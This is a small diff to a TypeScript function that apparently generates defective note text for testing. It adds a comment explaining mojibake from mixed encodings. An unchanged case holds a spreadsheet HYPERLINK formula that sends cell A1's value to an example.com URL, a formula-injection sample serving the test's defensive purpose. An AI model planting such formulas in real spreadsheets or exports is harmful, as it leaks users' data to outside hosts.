@@ -17,6 +17,7 @@ export function noteText({ text, defect, id }: Note): string {
     case 'note-smart-quotes':
       return `“${text}” – the patient’s own words…`;
     case 'note-misread-utf-8':
+      // In a Windows-1252 file these three characters are the very bytes of a UTF-8 apostrophe: the file mixes encodings.
       return `${text} Didnâ€™t want more.`;
     case 'note-formula':
       return `=HYPERLINK("http://example.com/?x="&A1,"${text}")`;
